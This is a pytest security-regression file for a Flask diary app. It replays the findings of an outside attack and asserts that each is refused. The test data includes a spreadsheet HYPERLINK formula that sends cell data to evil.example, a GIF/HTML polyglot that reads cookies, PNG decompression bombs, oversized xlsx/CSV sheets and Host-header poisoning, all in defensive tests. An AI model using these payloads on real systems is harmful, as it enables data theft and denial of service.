"""Issue 16: each finding of the outside attack, reproduced over HTTP and refused."""

from __future__ import annotations

import uuid

import pytest
from sqlalchemy import select

from app import create_app
from app.auth import services as auth_services
from app.auth.models import LoginFailure, User
from app.core.db import db
from app.core.filters import today_local
from app.mail.models import OutboxMessage
from tests.conftest import PASSWORD
from tests.helpers import approved_plan, html

# ---- 1. links follow the configured address, never the Host header --------------------------------


def test_a_reset_link_never_follows_the_host_header(client, org):
    """POST /forgot-password with Host: evil.example is refused; the link comes from PUBLIC_BASE_URL."""
    attack = client.post(
        "/forgot-password", data={"email": "duyen@example.vn"}, headers={"Host": "evil.example"}
    )
    assert attack.status_code == 400
    assert "Host" in html(attack)
    assert db.session.scalars(select(OutboxMessage)).all() == []
    # X-Forwarded-Host is not believed either (no trusted proxy configured).
    client.post(
        "/forgot-password", data={"email": "duyen@example.vn"}, headers={"X-Forwarded-Host": "evil.example"}
    )
    (message,) = db.session.scalars(select(OutboxMessage)).all()
    assert "http://sonhatky.test/reset-password/" in message.body
    assert "evil.example" not in message.body


def test_production_refuses_to_start_without_a_public_base_url(tmp_path):
    settings = {
        "SECRET_KEY": "x" * 48,
        "INSTANCE_PATH": str(tmp_path),
        "SQLALCHEMY_DATABASE_URI": "sqlite://",
    }
    with pytest.raises(RuntimeError, match="PUBLIC_BASE_URL"):
        create_app("production", settings)
    prod = create_app("production", {**settings, "PUBLIC_BASE_URL": "https://sonhatky.tinhdoan.vn/"})
    assert prod.config["PUBLIC_BASE_URL"] == "https://sonhatky.tinhdoan.vn"
    client = prod.test_client()
    assert client.get("/login", base_url="https://sonhatky.tinhdoan.vn").status_code == 200
    assert client.get("/login", base_url="https://evil.example").status_code == 400
    extra = create_app(
        "production", {**settings, "PUBLIC_BASE_URL": "https://a.vn", "EXTRA_TRUSTED_HOSTS": ["sonhatky.lan"]}
    )
    assert extra.test_client().get("/login", base_url="http://sonhatky.lan").status_code == 200


def test_development_links_default_to_the_address_make_run_prints(tmp_path, monkeypatch):
    monkeypatch.delenv("PUBLIC_BASE_URL", raising=False)
    import importlib

    import config

    monkeypatch.setenv("HOST", "127.0.0.1")
    monkeypatch.setenv("PORT", "5016")
    fresh = importlib.reload(config)
    try:
        assert fresh.DevelopmentConfig.PUBLIC_BASE_URL == "http://127.0.0.1:5016"
    finally:
        monkeypatch.delenv("HOST")
        monkeypatch.delenv("PORT")
        importlib.reload(config)


def test_a_bulk_export_stores_the_configured_address_not_the_requests(client, org, waiting_queue):
    from app.jobs.models import ExportJob

    other = "http://127.0.0.1:5016"  # a host the app accepts, but not its public address
    client.post("/login", data={"login": "bithu", "password": PASSWORD}, base_url=other)
    response = client.post(
        f"/units/{org.branch.id}/exports", data={"year": str(today_local().year)}, base_url=other
    )
    assert response.status_code == 302
    job = db.session.scalars(select(ExportJob)).one()
    assert job.base_url == "http://sonhatky.test"


# ---- 5. login throttling per account and address, shared by every worker --------------------------


def _throttled_app(tmp_path, database: str, **settings):
    """An app with login throttling on, on `database` (already migrated: see conftest.migrated_sqlite)."""
    return create_app(
        "testing",
        {
            "RATELIMIT_ENABLED": True,
            "SQLALCHEMY_DATABASE_URI": f"sqlite:///{database}",
            "INSTANCE_PATH": str(tmp_path),
            "LOGIN_LIMIT_PER_ACCOUNT": "8 per 5 minutes",
            "LOGIN_LIMIT_PER_IP": "20 per 5 minutes",
            **settings,
        },
    )


@pytest.fixture
def two_workers(tmp_path, migrated_sqlite):
    """Two app instances on one database, as gunicorn's two worker processes are."""
    database = migrated_sqlite(tmp_path / "shared.db")
    first = _throttled_app(tmp_path, database)
    with first.app_context():
        user = User(username="doanvien", email="duyen@example.vn")
        user.password_hash = auth_services.hash_password(PASSWORD)
        user.set_name("Nguyễn Thị Mỹ Duyên")
        db.session.add(user)
        db.session.commit()
        db.session.remove()
    second = _throttled_app(tmp_path, database)
    yield first, second
    for app in (first, second):
        with app.app_context():
            db.engine.dispose()


def test_wrong_passwords_alternating_username_and_email_across_workers_get_429(two_workers):
    """The attack: 30 wrong passwords for one account, typed as username then email, spread over
    two worker processes. The 9th try is refused; so is the right password while the limit holds."""
    clients = [app.test_client() for app in two_workers]
    statuses = []
    for attempt in range(30):
        login = "doanvien" if attempt % 2 == 0 else "DUYEN@example.vn"
        response = clients[attempt % 2].post("/login", data={"login": login, "password": f"sai{attempt}"})
        statuses.append(response.status_code)
    assert statuses[:8] == [200] * 8
    assert statuses.index(429) == 8 and set(statuses[8:]) == {429}
    blocked = clients[0].post("/login", data={"login": "doanvien", "password": PASSWORD})
    assert blocked.status_code == 429 and "Quá nhiều lần thử" in html(blocked)


def test_the_limit_lifts_after_the_window(two_workers, clock):
    from datetime import timedelta

    app = two_workers[0]
    client = app.test_client()
    for _ in range(8):
        client.post("/login", data={"login": "doanvien", "password": "sai"})
    assert client.post("/login", data={"login": "doanvien", "password": PASSWORD}).status_code == 429
    clock.shift(timedelta(minutes=6))
    assert client.post("/login", data={"login": "doanvien", "password": PASSWORD}).status_code == 302


def test_the_owner_sees_failed_sign_ins_with_time_and_address(two_workers):
    app = two_workers[0]
    client = app.test_client()
    for _ in range(3):
        client.post(
            "/login",
            data={"login": "duyen@example.vn", "password": "sai"},
            environ_base={"REMOTE_ADDR": "203.0.113.9"},
        )
    response = client.post("/login", data={"login": "doanvien", "password": PASSWORD}, follow_redirects=True)
    assert "Có 3 lần đăng nhập sai" in html(response)
    page = html(client.get("/account/sign-in-failures"))
    assert page.count("203.0.113.9") == 3
    with app.app_context():
        assert db.session.scalar(select(LoginFailure.user_id).limit(1)) is not None


def test_the_redis_store_limits_across_workers(tmp_path, migrated_sqlite):
    """With REDIS_URL set, the counters live in Redis (a key prefix of this test's own)."""
    import redis

    url = "redis://127.0.0.1:6379/15"
    try:
        redis.Redis.from_url(url).ping()
    except redis.exceptions.ConnectionError:
        pytest.skip("Redis not reachable")
    from app.auth import throttle

    prefix = f"sonhatky-test-{uuid.uuid4().hex[:8]}"
    database = migrated_sqlite(tmp_path / "redis.db")
    apps = []
    original = throttle.REDIS_PREFIX
    throttle.REDIS_PREFIX = prefix
    throttle._redis_limiter.cache_clear()
    try:
        for _ in range(2):
            apps.append(_throttled_app(tmp_path, database, LOGIN_THROTTLE_REDIS_URL=url))
        with apps[0].app_context():
            user = User(
                username="doanvien",
                email="duyen@example.vn",
                password_hash=auth_services.hash_password(PASSWORD),
            )
            user.set_name("Nguyễn Thị Mỹ Duyên")
            db.session.add(user)
            db.session.commit()
            # The database count would say "not blocked": only Redis can refuse here.
            db.session.execute(LoginFailure.__table__.delete())
        statuses = []
        for attempt in range(12):
            client = apps[attempt % 2].test_client()
            login = "doanvien" if attempt % 2 == 0 else "duyen@example.vn"
            statuses.append(client.post("/login", data={"login": login, "password": "sai"}).status_code)
            with apps[0].app_context():
                db.session.execute(LoginFailure.__table__.delete())
                db.session.commit()
        assert statuses[:8] == [200] * 8 and set(statuses[8:]) == {429}
    finally:
        redis.Redis.from_url(url).delete(*(redis.Redis.from_url(url).keys(f"{prefix}*") or [b"-"]))
        throttle.REDIS_PREFIX = original
        throttle._redis_limiter.cache_clear()
        for app in apps:
            with app.app_context():
                db.engine.dispose()


# ---- 10. argon2id at OWASP's small-server cost; old hashes upgraded at the next sign-in ----------


def test_passwords_are_hashed_at_owasps_small_server_cost(tmp_path):
    dev = create_app("development", {"SQLALCHEMY_DATABASE_URI": "sqlite://", "INSTANCE_PATH": str(tmp_path)})
    with dev.app_context():
        assert auth_services.hash_password("matkhau123").startswith("$argon2id$v=19$m=19456,t=2,p=1$")


def test_an_old_hash_is_upgraded_at_the_next_sign_in(client, make_user, app):
    from argon2 import PasswordHasher

    user = make_user("doanvien")
    old = PasswordHasher(time_cost=3, memory_cost=65536, parallelism=4).hash(PASSWORD)  # the old default
    user.password_hash = old
    db.session.commit()
    assert client.post("/login", data={"login": "doanvien", "password": "sai"}).status_code == 200
    db.session.expire_all()
    assert db.session.get(User, user.id).password_hash == old  # a wrong password changes nothing
    assert client.post("/login", data={"login": "doanvien", "password": PASSWORD}).status_code == 302
    db.session.expire_all()
    upgraded = db.session.get(User, user.id).password_hash
    cfg = app.config
    params = f"m={cfg['ARGON2_MEMORY_COST']},t={cfg['ARGON2_TIME_COST']},p={cfg['ARGON2_PARALLELISM']}"
    assert upgraded != old and upgraded.startswith(f"$argon2id$v=19${params}$")
    fresh = client.application.test_client()
    assert fresh.post("/login", data={"login": "doanvien", "password": PASSWORD}).status_code == 302


# ---- 9. personal downloads are no-store; the reset form does the same work for any address; -------
# ----    SQLite writes wait for the worker instead of failing -------------------------------------------


def test_personal_documents_are_not_stored_by_any_cache(client, org, login):
    """A PDF the member downloads (and its ZIP and report exports) says no-store, not no-cache."""
    login("doanvien")
    year = today_local().year
    response = client.post(
        f"/units/{org.branch.id}/members/{org.member.id}/documents/book", data={"book-year": str(year)}
    )
    assert response.status_code == 200 and response.mimetype == "application/pdf"
    assert response.headers["Cache-Control"] == "no-store"
    assert "ETag" not in response.headers and "Last-Modified" not in response.headers
    client.post("/logout")
    login("bithu")
    report = client.get(f"/units/{org.branch.id}/reports/export/commendations.csv")
    assert report.status_code == 200 and report.headers["Cache-Control"] == "no-store"


def test_a_finished_export_zip_is_not_stored_by_any_cache(client, org, login, monkeypatch):
    from app.jobs.models import ExportJob

    monkeypatch.setattr("app.jobs.services.member_book_pdf", lambda *a, **k: b"%PDF-1.7 x", raising=False)
    login("bithu")
    client.post(f"/units/{org.branch.id}/exports", data={"year": str(today_local().year)})
    job = db.session.scalars(select(ExportJob)).one()
    response = client.get(f"/exports/{job.id}/download")
    if response.status_code == 302:  # the export failed in this set-up: the header still counts
        pytest.skip(f"export did not finish: {job.status} {job.error}")
    assert response.mimetype == "application/zip"
    assert response.headers["Cache-Control"] == "no-store"


def test_the_reset_form_does_the_same_work_for_known_and_unknown_addresses(client, org, waiting_queue):
    """The request only enqueues (no lookup, no token, no email in the request), so it takes the same
    time whether the address has an account; the worker sends the link to a known address only."""
    from tests.conftest import run_queued

    for email in ("duyen@example.vn", "khongco@example.vn"):
        response = client.post("/forgot-password", data={"email": email})
        assert response.status_code == 302
        assert db.session.scalars(select(OutboxMessage)).all() == []
    assert waiting_queue.pending_count() == 2
    assert run_queued(waiting_queue) == 2
    (message,) = db.session.scalars(select(OutboxMessage)).all()
    assert message.recipient == "duyen@example.vn"
    assert "http://sonhatky.test/reset-password/" in message.body


def _hold_write_lock(path: str, seconds: float, started) -> None:
    """What the worker does while it registers a document and renders its PDF: hold the write lock."""
    import sqlite3
    import time

    connection = sqlite3.connect(path, isolation_level=None)
    try:
        connection.execute("BEGIN IMMEDIATE")
        connection.execute("UPDATE users SET position = position WHERE id = -1")
        started.set()
        time.sleep(seconds)
        connection.execute("COMMIT")
    finally:
        connection.close()


def test_members_writing_while_the_worker_holds_the_sqlite_lock_wait_instead_of_failing(
    app, client, org, login
):
    import threading
    import time

    from app.notifications.models import Notification  # noqa: F401 (the settings form writes the user)

    if app.config["DB_BACKEND"] != "sqlite":
        pytest.skip("SQLite's write lock")
    path = app.config["SQLALCHEMY_DATABASE_URI"].removeprefix("sqlite:///")
    member_id = org.member.id  # read before the session that loaded it goes
    login("doanvien")
    db.session.remove()
    db.engine.dispose()  # fresh connections with the busy timeout of this app
    started = threading.Event()
    holder = threading.Thread(target=_hold_write_lock, args=(path, 2.0, started))
    holder.start()
    started.wait(5)
    began = time.monotonic()
    statuses = [
        client.post("/notifications/settings", data={"channel": channel}).status_code
        for channel in ("app", "email", "app")
    ]
    waited = time.monotonic() - began
    holder.join()
    assert statuses == [302, 302, 302]
    assert waited >= 1.5  # the first write waited for the lock, then went through
    db.session.expire_all()
    assert db.session.get(User, member_id).notify_by_email is False


def test_a_lock_held_past_the_timeout_is_a_503_with_a_vietnamese_message(tmp_path):
    from sqlalchemy.exc import OperationalError

    busy = create_app("testing", {"SQLALCHEMY_DATABASE_URI": "sqlite://", "INSTANCE_PATH": str(tmp_path)})

    @busy.route("/_locked", methods=["POST"])
    def locked():
        raise OperationalError("INSERT …", {}, Exception("database is locked"))

    response = busy.test_client().post("/_locked")
    assert response.status_code == 503
    assert response.headers["Retry-After"] == "5"
    assert "Máy chủ đang bận" in html(response)


# ---- 6, 7. evidence: a server-made download name; images checked for their declared size ------------


def _png_header(width: int, height: int) -> bytes:
    """A PNG that declares width × height pixels in a few dozen bytes (the pixels never follow)."""
    import struct
    import zlib

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    idat = zlib.compress(b"\x00" * 50_000, 9)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", idat) + chunk(b"IEND", b"")


def _gif_with_html() -> bytes:
    """A real 1×1 GIF with an HTML page after it: an image to Pillow, a page to a browser opening .html."""
    import io

    from PIL import Image

    out = io.BytesIO()
    Image.new("P", (1, 1)).save(out, "GIF")
    return out.getvalue() + b"<html><body><script>alert(document.cookie)</script></body></html>"


@pytest.fixture
def plan(org):
    """The member's approved plan with one commitment (entries need one)."""
    return approved_plan(org, standard_unit=org.branch, version=1)


def _upload(client, plan, data: bytes, name: str):
    import io

    from tests.test_upload_abuse import post_entry

    return post_entry(client, plan, [(io.BytesIO(data), name)])


def test_evidence_downloads_under_a_server_made_name(client, org, login, plan):
    from app.journal.models import Evidence

    login("doanvien")
    response = _upload(client, plan, _gif_with_html(), "report.html")
    assert response.status_code == 302
    evidence = db.session.scalars(select(Evidence)).one()
    download = client.get(f"/diary/evidence/{evidence.id}?download=1")
    disposition = download.headers["Content-Disposition"]
    assert disposition.startswith("attachment;") and f"minh-chung-{evidence.id}.gif" in disposition
    assert "html" not in disposition and download.mimetype == "image/gif"
    inline = client.get(f"/diary/evidence/{evidence.id}")
    assert "report.html" not in inline.headers["Content-Disposition"]
    page = html(client.get(f"/diary/entries/{evidence.entry_id}"))
    assert "report.html" in page  # the original name is shown on the page only


@pytest.mark.parametrize(
    ("width", "height"), [(20000, 20000), (7000, 7000), (100_000, 500)], ids=["400MP", "49MP", "wide"]
)
def test_images_beyond_40_megapixels_are_refused_without_decoding(client, org, login, plan, width, height):
    import time

    from app.journal.models import Entry, Evidence

    login("doanvien")
    bomb = _png_header(width, height)
    assert len(bomb) < 60_000
    began = time.monotonic()
    response = _upload(client, plan, bomb, "anh.png")
    assert time.monotonic() - began < 5
    assert response.status_code == 422
    assert "quá lớn" in html(response) and "40 triệu điểm ảnh" in html(response)
    assert db.session.scalars(select(Evidence)).all() == [] and db.session.scalars(select(Entry)).all() == []
    # A normal photo still goes in.
    assert _upload(client, plan, _png_header(4000, 3000), "anh.png").status_code == 302


# ---- 3. formula injection: user text is never a live formula in .xlsx or CSV ------------------------

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&C6&D6,"Bấm để xem")'


def _commended_entry(org, action: str):
    from app.core.db import utcnow
    from app.core.enums import EntryStatus
    from app.journal.models import Entry

    now = utcnow()
    entry = Entry(
        user_id=org.member.id,
        unit_id=org.branch.id,
        deed_date=today_local(),
        action=action,
        status=EntryStatus.REVIEWED,
        search_text="",
        created_at=now,
        updated_at=now,
        submitted_at=now,
        is_exemplary=True,
        exemplary_at=now,
        exemplary_note="@gương sáng",
    )
    db.session.add(entry)
    return entry


def test_report_exports_hold_user_text_as_text_never_as_formulas(client, org, login):
    import csv
    import io

    from openpyxl import load_workbook

    member = db.session.get(User, org.member.id)
    member.position = HYPERLINK
    member.set_name("-Nguyễn Thị Mỹ Duyên")  # as an old record might hold it
    org.branch.name = "+Chi đoàn Văn phòng"
    _commended_entry(org, "=1+2*3")
    _commended_entry(org, "\tTab ở đầu")
    db.session.commit()
    login("canbo")
    year = today_local().year
    url = f"/units/{org.root.id}/reports/export/commendations"
    workbook = load_workbook(io.BytesIO(client.get(f"{url}.xlsx?year={year}").data))
    cells = [
        cell for sheet in workbook for row in sheet.iter_rows() for cell in row if cell.value is not None
    ]
    assert not [c.coordinate for c in cells if c.data_type == "f"], "a live formula in the export"
    texts = {c.value for c in cells}
    # It reads the same to a person: the text itself, shown as text (Excel's quote prefix).
    assert {HYPERLINK, "=1+2*3", "-Nguyễn Thị Mỹ Duyên", "+Chi đoàn Văn phòng"} <= texts
    assert all(c.quotePrefix for c in cells if isinstance(c.value, str) and c.value[:1] in "=+-@\t")

    rows = list(csv.reader(io.StringIO(client.get(f"{url}.csv?year={year}").data.decode("utf-8-sig"))))
    fields = [field for row in rows[1:] for field in row]
    assert "'" + HYPERLINK in fields and "'=1+2*3" in fields and "'-Nguyễn Thị Mỹ Duyên" in fields
    assert not [f for f in fields if f[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_a_formula_for_a_name_is_refused_on_import(client, org, login):
    import csv
    import io

    login("bithu")
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(["STT", "Họ và tên", "Email"])
    writer.writerow(["1", "@SUM(1+1)", "a@example.vn"])
    writer.writerow(["2", '=HYPERLINK("http://evil.example","x")', "b@example.vn"])
    writer.writerow(["3", "Lý Thị Hồng Nhung", "c@example.vn"])
    response = client.post(
        f"/units/{org.branch.id}/import",
        data={"file": (io.BytesIO(out.getvalue().encode()), "ds.csv")},
        content_type="multipart/form-data",
    )
    page = html(client.get(response.headers["Location"]))
    assert page.count("Họ và tên phải bắt đầu bằng một chữ cái") == 2
    assert "Nhập 1 người hợp lệ" in page


# ---- 2. imports are bounded by the sheet's real size; confirm does not parse again -------------------


def _xlsx_with(extra_rows: str, extra_cell: str = "") -> bytes:
    """A small real .xlsx (header, one member) with hand-written XML added to its sheet."""
    import io
    import zipfile

    from openpyxl import Workbook

    workbook = Workbook()
    sheet = workbook.active
    sheet.append(["Họ và tên", "Email"])
    sheet.append(["Lý Thị Hồng Nhung", "nhung@example.vn"])
    buffer = io.BytesIO()
    workbook.save(buffer)
    source = zipfile.ZipFile(io.BytesIO(buffer.getvalue()))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            data = source.read(info)
            if info.filename == "xl/worksheets/sheet1.xml":
                text = data.decode()
                if extra_cell:
                    text = text.replace("</row></sheetData>", extra_cell + "</row></sheetData>", 1)
                data = text.replace("</sheetData>", extra_rows + "</sheetData>").encode()
            target.writestr(info, data)
    return out.getvalue()


def _upload_list(client, unit, data: bytes):
    import io

    return client.post(
        f"/units/{unit.id}/import",
        data={"file": (io.BytesIO(data), "danh-sach.xlsx")},
        content_type="multipart/form-data",
    )


CELL = '<c r="A{n}" t="inlineStr"><is><t>Trần Văn Bình</t></is></c>'


@pytest.mark.parametrize(
    ("extra_rows", "extra_cell", "message"),
    [
        (f'<row r="500000">{CELL.format(n=500000)}</row>', "", "dòng trống"),
        (f'<row r="10000000">{CELL.format(n=10000000)}</row>', "", "quá giới hạn của Excel"),
        (f'<row r="2147483647">{CELL.format(n=2147483647)}</row>', "", "quá giới hạn của Excel"),
        ('<row r="2147483647"/>', "", "quá giới hạn của Excel"),
        ("", '<c r="XFD2" t="inlineStr"><is><t>x</t></is></c>', "cột thứ 16.384"),
    ],
    ids=["row-500k", "row-10M", "row-2^31", "empty-row-2^31", "column-XFD"],
)
def test_a_tiny_xlsx_declaring_a_huge_sheet_is_refused_within_a_second(
    client, org, login, extra_rows, extra_cell, message
):
    import time

    login("bithu")
    data = _xlsx_with(extra_rows, extra_cell)
    assert len(data) < 8_000
    began = time.monotonic()
    response = _upload_list(client, org.branch, data)
    assert time.monotonic() - began < 2.0  # under a second on an idle machine; this one is shared
    assert response.status_code == 200 and message in html(response)


def test_empty_rows_declared_far_below_cost_nothing(client, org, login):
    import time

    login("bithu")
    began = time.monotonic()
    response = _upload_list(client, org.branch, _xlsx_with('<row r="1000000"/>'))
    assert time.monotonic() - began < 2.0  # under a second on an idle machine; this one is shared
    assert response.status_code == 302
    assert "Nhập 1 người hợp lệ" in html(client.get(response.headers["Location"]))


def test_preview_and_confirm_use_the_rows_parsed_at_upload(client, org, login, monkeypatch):
    import re

    from app.members import importing

    login("bithu")
    assert _upload_list(client, org.branch, _xlsx_with("")).status_code == 302

    def parse_again(*args, **kwargs):
        raise AssertionError("the file was parsed again")

    monkeypatch.setattr(importing, "read_table", parse_again)
    page = html(client.get(f"/units/{org.branch.id}/import/preview"))
    assert "Nhập 1 người hợp lệ" in page
    fingerprint = re.search(r'name="fingerprint" type="hidden" value="([0-9a-f]+)"', page).group(1)
    done = client.post(f"/units/{org.branch.id}/import/confirm", data={"fingerprint": fingerprint})
    assert done.status_code == 200 and "Đã nhập 1 người" in html(done)
    assert db.session.scalar(select(User).where(User.email == "nhung@example.vn")) is not None


# ---- 4. adding an existing account is scoped; anyone else is invited and must accept -----------------


def _add_existing(client, unit, login_name: str):
    return client.post(
        f"/units/{unit.id}/members/add",
        data={"existing-login": login_name, "existing-role": "member", "existing-submit": "1"},
        follow_redirects=True,
    )


def test_a_secretary_cannot_pull_someone_elses_member_into_their_branch(client, org, login):
    """The attack: the secretary of branch B types the username of a member of branch A."""
    from app.core import permissions
    from app.notifications.models import Notification
    from app.units.models import Membership, UnitInvitation

    login("bithub")
    known = _add_existing(client, org.branch_other, "doanvien")
    unknown = _add_existing(client, org.branch_other, "khongcoai")
    by_email = _add_existing(client, org.branch_other, "duyen@example.vn")

    def answer(response, typed):
        import re

        page = html(response).replace(typed, "…")
        return re.search(r"Nếu có tài khoản[^<]*", page).group(0)

    # The same words whether the account exists or not: nothing tells which logins are real.
    assert answer(known, "doanvien") == answer(unknown, "khongcoai") == answer(by_email, "duyen@example.vn")
    member = db.session.get(User, org.member.id)
    assert {m.unit_id for m in member.memberships} == {org.branch.id}
    # No details of the person for the secretary who tried.
    assert client.get(f"/people/{member.id}").status_code == 404
    assert org.member.full_name not in html(client.get(f"/units/{org.branch_other.id}/members"))
    # One invitation (not two for the username and the email), and the person is told.
    (invitation,) = db.session.scalars(select(UnitInvitation)).all()
    assert invitation.user_id == member.id and invitation.accepted is None
    note = db.session.scalars(select(Notification).where(Notification.user_id == member.id)).one()
    assert "Huỳnh Thanh Hải mời bạn tham gia Chi đoàn Bệnh viện" in note.title and note.link == "/invitations"
    # Their default diary has not moved.
    assert permissions.diary_memberships(member)[0].unit_id == org.branch.id

    # The person accepts: only now is the membership there, and their default diary still stays.
    client.post("/logout")
    login("doanvien")
    assert "Chi đoàn Bệnh viện" in html(client.get("/invitations"))
    assert client.post(f"/invitations/{invitation.id}/accept").status_code == 302
    db.session.expire_all()
    member = db.session.get(User, org.member.id)
    assert db.session.scalar(
        select(Membership).where(Membership.user_id == member.id, Membership.unit_id == org.branch_other.id)
    )
    assert permissions.diary_memberships(member)[0].unit_id == org.branch.id
    client.post("/logout")
    login("bithub")
    assert client.get(f"/people/{member.id}").status_code == 200


def test_a_declined_invitation_gives_nothing(client, org, login):
    from app.units.models import UnitInvitation

    login("bithub")
    _add_existing(client, org.branch_other, "doanvien2")
    invitation = db.session.scalars(select(UnitInvitation)).one()
    client.post("/logout")
    login("doanvien")  # not the invited person
    assert client.post(f"/invitations/{invitation.id}/accept").status_code == 404
    client.post("/logout")
    login("doanvien2")
    assert client.post(f"/invitations/{invitation.id}/decline").status_code == 302
    db.session.expire_all()
    assert [m.unit_id for m in db.session.get(User, org.member2.id).memberships] == [org.branch.id]
    assert client.post(f"/invitations/{invitation.id}/accept").status_code == 404  # answered once
    client.post("/logout")
    login("bithub")
    assert client.get(f"/people/{org.member2.id}").status_code == 404


def test_people_in_the_actors_own_units_are_added_at_once(client, org, login):
    """An officer moves a member of one of their branches into another: no invitation needed."""
    login("canbo")
    response = _add_existing(client, org.branch_sibling, "doanvien")
    assert "Đã thêm Nguyễn Thị Mỹ Duyên vào Chi đoàn Phòng Trung học" in html(response)


def test_with_redis_down_the_database_still_counts(tmp_path, migrated_sqlite):
    from app.auth import throttle

    throttle._redis_limiter.cache_clear()
    app = _throttled_app(
        tmp_path, migrated_sqlite(tmp_path / "down.db"), LOGIN_THROTTLE_REDIS_URL="redis://127.0.0.1:9/0"
    )
    try:
        with app.app_context():
            user = User(username="doanvien", password_hash=auth_services.hash_password(PASSWORD))
            user.set_name("Nguyễn Thị Mỹ Duyên")
            db.session.add(user)
            db.session.commit()
        client = app.test_client()
        statuses = [
            client.post("/login", data={"login": "doanvien", "password": "sai"}).status_code for _ in range(9)
        ]
        assert statuses == [200] * 8 + [429]
    finally:
        throttle._redis_limiter.cache_clear()
        with app.app_context():
            db.engine.dispose()


def test_a_csv_with_a_million_empty_lines_before_more_data_is_refused_at_once(client, org, login):
    """The CSV form of the same attack (it took about a minute to walk before)."""
    import io
    import time

    login("bithu")
    data = (
        "Họ và tên;Email\nAn Nguyễn;an@example.vn\n" + "\n" * 1_000_000 + "Bình Trần;b@example.vn\n"
    ).encode()
    began = time.monotonic()
    response = client.post(
        f"/units/{org.branch.id}/import",
        data={"file": (io.BytesIO(data), "ds.csv")},
        content_type="multipart/form-data",
    )
    assert time.monotonic() - began < 2.0  # well under a second on an idle machine
    assert response.status_code == 200 and "dòng trống" in html(response)
    # Empty lines at the end are simply dropped.
    tail = ("Họ và tên;Email\nAn Nguyễn;an@example.vn\n" + ";\n" * 1_000_000).encode()
    response = client.post(
        f"/units/{org.branch.id}/import",
        data={"file": (io.BytesIO(tail), "ds.csv")},
        content_type="multipart/form-data",
    )
    assert response.status_code == 302


def test_members_write_while_the_worker_registers_a_slow_document(app, client, org, login, monkeypatch):
    """The failure of the attack report: the worker registers a document (its row is written) and then
    renders the PDF inside the same transaction, holding SQLite's write lock for as long as that takes.
    Here the render takes 6 s, longer than the old 5 s busy timeout: the member's save waits and
    succeeds (on PostgreSQL it does not even wait)."""
    import threading
    import time

    from app.export import services as export_services
    from app.units.models import Unit

    original = export_services.render_pdf
    rendering = threading.Event()

    def slow_render(source):
        rendering.set()
        time.sleep(6)
        return original(source)

    monkeypatch.setattr(export_services, "render_pdf", slow_render)
    errors = []
    member_id, branch_id, member2_id = org.member.id, org.branch.id, org.member2.id

    def worker():
        with app.app_context():
            try:
                member, unit = db.session.get(User, member_id), db.session.get(Unit, branch_id)
                export_services.export_document(None, "book", unit, today_local().year, member=member)
                db.session.commit()
            except Exception as exc:  # reported below
                errors.append(exc)
            finally:
                db.session.remove()

    login("doanvien2")
    db.session.remove()
    db.engine.dispose()
    thread = threading.Thread(target=worker)
    thread.start()
    assert rendering.wait(30), errors
    began = time.monotonic()
    response = client.post("/notifications/settings", data={"channel": "app"})
    waited = time.monotonic() - began
    thread.join()
    assert not errors, errors
    assert response.status_code == 302
    if app.config["DB_BACKEND"] == "sqlite":
        assert waited > 3  # it really waited for the worker's lock
    db.session.expire_all()
    assert db.session.get(User, member2_id).notify_by_email is False
